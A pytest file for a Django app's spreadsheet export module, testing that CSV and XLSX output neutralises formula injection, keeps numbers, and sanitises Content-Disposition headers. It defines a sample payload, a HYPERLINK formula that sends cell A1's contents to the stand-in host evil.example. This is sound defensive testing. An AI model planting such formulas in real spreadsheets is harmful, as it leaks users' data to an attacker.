"""The one spreadsheet writer: formulas neutralised (headers too), numbers kept, Belgian CSV by default."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from django.test import RequestFactory
from openpyxl import load_workbook

from maillage.core.spreadsheet import (
    content_disposition,
    csv_response,
    neutralise,
    separator_from_request,
    write_csv,
    xlsx_response,
)

EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")'


def _body(response) -> bytes:  # type: ignore[no-untyped-def]
    return b"".join(response.streaming_content)


def test_neutralise_quotes_every_formula_start_and_keeps_numbers() -> None:
    assert [neutralise(v) for v in ["=1+1", "+32 2", "-x", "@SUM(A1)", "\tA", "\rB"]] == [
        "'=1+1",
        "'+32 2",
        "'-x",
        "'@SUM(A1)",
        "'\tA",
        "'\rB",
    ]
    assert [neutralise(v) for v in [-3, 2.5, Decimal("-1.25"), 0, None, "Dupont", True]] == [
        -3,
        2.5,
        Decimal("-1.25"),
        0,
        "",
        "Dupont",
        1,
    ]


def test_csv_is_belgian_by_default_and_neutralises_header_and_cells() -> None:
    response = csv_response("présences", [EVIL, "Nombre"], [[EVIL, -3], ["Dupont", 2.5]])
    body = _body(response)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert text == (
        '"\'=HYPERLINK(""http://evil.example/x?""&A1,""Cliquez ici"")";Nombre\r\n'
        '"\'=HYPERLINK(""http://evil.example/x?""&A1,""Cliquez ici"")";-3\r\n'
        "Dupont;2,5\r\n"
    )
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["'" + EVIL, "Nombre"]
    assert rows[1] == ["'" + EVIL, "-3"]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == "attachment; filename=\"presences\"; filename*=UTF-8''pr%C3%A9sences"


def test_csv_comma_form_has_no_bom_and_decimal_points() -> None:
    request = RequestFactory().get("/x/", {"sep": "comma"})
    separator = separator_from_request(request)
    body = _body(csv_response("export.csv", ["a", "b"], [[1.5, dt.date(2026, 1, 5)]], separator=separator))
    assert separator == "comma"
    assert body == b"a,b\r\n1.5,2026-01-05\r\n"
    assert separator_from_request(RequestFactory().get("/x/", {"sep": "whatever"})) == "belgian"


def test_write_csv_to_a_file() -> None:
    out = io.StringIO(newline="")
    write_csv(out, ["@name"], [["+1"], [-1]], separator="comma")
    assert out.getvalue() == "'@name\r\n'+1\r\n-1\r\n"


def test_xlsx_writes_formula_text_as_string_cells_and_numbers_as_numbers() -> None:
    response = xlsx_response(
        "inscriptions.xlsx",
        [("Présences: =A1 [1]", [EVIL, "Nombre"], [[EVIL, -3], ["Dupont", 2.5], [None, Decimal("-1.5")]])],
    )
    workbook = load_workbook(io.BytesIO(_body(response)))
    sheet = workbook.worksheets[0]
    cells = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
    assert sheet.title == "Présences  =A1  1"
    assert cells == [
        [(EVIL, "s"), ("Nombre", "s")],
        [(EVIL, "s"), (-3, "n")],
        [("Dupont", "s"), (2.5, "n")],
        [(None, "n"), (-1.5, "n")],
    ]
    assert sheet["A1"].quotePrefix is True
    assert sheet["A1"].font.b is True
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"inscriptions.xlsx\"; filename*=UTF-8''inscriptions.xlsx"
    )


def test_content_disposition_cannot_break_the_header() -> None:
    assert content_disposition('a"b\r\nc;d.csv') == (
        "attachment; filename=\"a_b_c_d.csv\"; filename*=UTF-8''a%22b%0D%0Ac%3Bd.csv"
    )
    assert content_disposition("日本.csv").startswith('attachment; filename="csv"')
